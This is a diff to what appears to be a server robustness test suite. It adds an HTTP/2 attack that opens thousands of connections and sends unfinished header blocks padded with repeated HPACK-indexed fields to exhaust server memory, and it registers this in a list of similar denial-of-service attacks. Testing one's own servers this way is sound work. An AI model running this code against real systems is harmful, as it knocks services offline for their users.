@@ -105,6 +105,44 @@ async def heads_without_ends(host, path):
     await many(6000, one)
 
 
+def frame(kind, flags, stream, payload=b""):
+    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload
+
+
+async def blocks_without_ends(host, path):
+    """The same over HTTP/2, where a byte of a header block that names a field once more makes a value of 72 bytes: blocks
+    of two kilobytes, on connections that have had an answer. One that is refused comes again after a second."""
+
+    def fields(target):
+        target = target.encode()
+        # GET, http, a path and a host.
+        return b"\x82\x86\x04" + bytes((len(target),)) + target + b"\x01" + bytes((len(host),)) + host.encode()
+
+    # SETTINGS; HEADERS with END_HEADERS and END_STREAM.
+    answered = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(1, 5, 1, fields("/livez"))
+    # A field that is remembered, and named again and again; without END_HEADERS.
+    begun = frame(1, 1, 3, fields(path) + b"\x40\x01a\x00" + b"\xbe" * 1900)
+
+    async def one(_):
+        reader, writer = await connect(host, "127.0.0.2")
+        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
+            writer.write(answered)
+            is_end = False
+            while not is_end:
+                first = await reader.readexactly(9)
+                await reader.readexactly(int.from_bytes(first[:3]))
+                # DATA with END_STREAM.
+                is_end = first[3] == 0 and first[4] & 1
+            writer.write(begun)
+            # Until it is refused.
+            while await reader.read(1 << 12):
+                pass
+        writer.close()
+        await asyncio.sleep(1)
+
+    await many(6000, one)
+
+
 async def unread_answers(host, path):
     body = b'{"jsonrpc":"2.0","id":1,"method":"ping"}'
     one_request = head(host, path, len(body)) + body
@@ -310,6 +348,7 @@ ATTACKS = {
     "200 bodies that do not end": unfinished_bodies,
     "1,000 requests with big heads that do not end": big_heads,
     "6,000 heads of 63 KiB without their ends": heads_without_ends,
+    "6,000 header blocks of HTTP/2 without their ends": blocks_without_ends,
     "150 connections that read no answers": unread_answers,
     "12,000 connections of one address": connections,
     "sessions without end": sessions,
